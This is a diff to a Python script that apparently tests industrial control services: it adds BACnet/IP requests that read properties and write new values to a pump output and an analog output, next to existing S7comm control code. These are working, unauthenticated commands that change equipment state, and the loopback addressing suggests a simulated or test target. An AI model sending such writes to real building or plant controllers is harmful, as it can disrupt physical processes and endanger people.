@@ -11,8 +11,15 @@ def tcp():
     return s
 
 
+sources = 0
+
+
 def udp():
+    # Each from a network of its own: to one source and network little is said over UDP.
+    global sources
+    sources += 1
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("127.%d.%d.1" % (40 + len(service), sources), 0))
     s.settimeout(5)
     s.connect((host, port))
     return s
@@ -183,6 +190,32 @@ def s7comm():
     s7(1, "28000000000000fd000009" + b"P_PROGRAM".hex())
     time.sleep(1.1)
     print("moves", before != read(level))
+
+
+def bacnet():
+    def ask(hexed, s):
+        apdu = bytes.fromhex(hexed)
+        b = bytes([0x81, 0x0a]) + struct.pack(">H", len(apdu) + 6) + bytes([1, 4]) + apdu
+        s.send(b)
+        b = s.recv(2000)
+        print(hexed, "->", b[6:].hex())
+        return b[6:]
+    who = ask("1008", udp())
+    print("I-Am", struct.unpack(">I", who[2 + 1:7])[0] & 0x3fffff)
+    value = "0005010c 0c00000000 1955"
+    s = udp()
+    before = ask(value, s)
+    for more in "0005010c 0c00000000 196f", "0005010c 0c00000063 1955", "0005010c 0c023fffff 194c 2900", "0005011e", "00050114 0900":
+        ask(more, s)
+    s = udp()
+    ask("0005010e 0c023fffff 1e 0908 1f", s)
+    s = udp()
+    ask("0005010e 0c00000000 1e 0908 1f 0c01000000 1e 0955 0957 094d 1f", s)
+    ask("0005010f 0c01000000 1955 3e9100 3f 4908", s)
+    print("pump", ask("0005010c 0c01000000 1955", s)[-2])
+    ask("0005010f 0c00800000 1955 3e44428c0000 3f", s)
+    time.sleep(1.1)
+    print("moves", before != ask(value, s))
 
 
 globals()[service]()
